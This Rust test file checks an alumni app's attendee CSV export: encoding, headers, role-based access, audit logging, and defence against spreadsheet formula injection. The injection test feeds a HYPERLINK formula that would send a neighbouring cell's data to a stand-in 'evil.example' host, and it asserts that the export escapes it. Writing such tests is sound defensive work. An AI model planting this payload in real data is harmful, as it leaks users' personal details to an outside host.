//! The attendee export for the secretariat.

use alumni_core::Role;
use alumni_test_support::TestApp;
use serde_json::json;

use super::support::{event_input, published_event, register};

#[tokio::test]
async fn the_secretariat_exports_attendees_as_csv_that_excel_reads() {
    let app = TestApp::spawn().await;
    let secretariat = app.create_member(&[Role::Secretariat]).await;
    let event = published_event(&app, &secretariat, event_input(&app, Some(1), json!({}))).await;
    let confirmed = app.create_member(&[Role::Alumnus]).await;
    let waiting = app.create_member(&[Role::Employee]).await;
    register(&app, &confirmed, &event).await.data();
    register(&app, &waiting, &event).await.data();
    let path = format!("/events/{event}/attendees.csv");

    let response = app.client_as(&secretariat).get(&path).await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let body = response.bytes().await.unwrap();
    assert!(
        body.starts_with(b"\xEF\xBB\xBF"),
        "UTF-8 byte-order mark first"
    );
    let text = std::str::from_utf8(&body[3..]).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "member_id",
            "name",
            "name_kana",
            "email",
            "status",
            "waitlist_position",
            "registered_at",
            "checked_in_at",
            "attendance",
        ]
    );
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0][0], confirmed.id.to_string());
    // Japanese names survive the trip into Excel's UTF-8 reading.
    assert!(rows[0][1].starts_with("会員 "), "{:?}", rows[0]);
    assert!(rows[0][2].starts_with("かいいん "), "{:?}", rows[0]);
    assert_eq!(rows[0][3], confirmed.email);
    assert_eq!(rows[0][4], "CONFIRMED");
    assert_eq!(rows[1][3], waiting.email);
    assert_eq!(rows[1][4..6], ["WAITLISTED", "1"]);
    assert!(rows[0][6].ends_with("+09:00"), "Tokyo time: {}", rows[0][6]);

    for role in [
        Role::Alumnus,
        Role::Employee,
        Role::Analyst,
        Role::Moderator,
    ] {
        let member = app.create_member(&[role]).await;
        assert_eq!(app.client_as(&member).get(&path).await.status(), 403);
    }
    assert_eq!(app.client().get(&path).await.status(), 401);

    let audit = app
        .client_as(&secretariat)
        .query_with(
            "query($id: ID!) { auditEvents(filter: { subjectId: $id, action: \"events.attendees_exported\" }) { nodes { details } } }",
            json!({ "id": event }),
        )
        .await;
    assert_eq!(
        audit.data()["auditEvents"]["nodes"],
        json!([{ "details": { "rows": 2 } }])
    );
}

#[tokio::test]
async fn names_that_look_like_formulas_reach_the_csv_as_text() {
    let app = TestApp::spawn().await;
    let secretariat = app.create_member(&[Role::Secretariat]).await;
    let event = published_event(&app, &secretariat, event_input(&app, None, json!({}))).await;
    let names = [
        "=HYPERLINK(\"https://evil.example/?leak=\"&C2,\"詳細\")",
        "-1+2",
    ];
    for name in names {
        let member = app.create_member(&[Role::Alumnus]).await;
        app.client_as(&member)
            .query_with(
                "mutation($name: String!) { updateMyProfile(input: { displayName: $name }) { id } }",
                json!({ "name": name }),
            )
            .await
            .data();
        register(&app, &member, &event).await.data();
    }

    let response = app
        .client_as(&secretariat)
        .get(&format!("/events/{event}/attendees.csv"))
        .await;
    assert_eq!(response.status(), 200);
    let body = response.bytes().await.unwrap();
    assert!(body.starts_with(b"\xEF\xBB\xBF"), "still UTF-8 with BOM");
    let mut reader = csv::Reader::from_reader(&body[3..]);
    let written: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[1].to_owned())
        .collect();
    assert_eq!(
        written,
        names.map(|name| format!("'{name}")),
        "a leading quote makes a spreadsheet read each as text"
    );
}
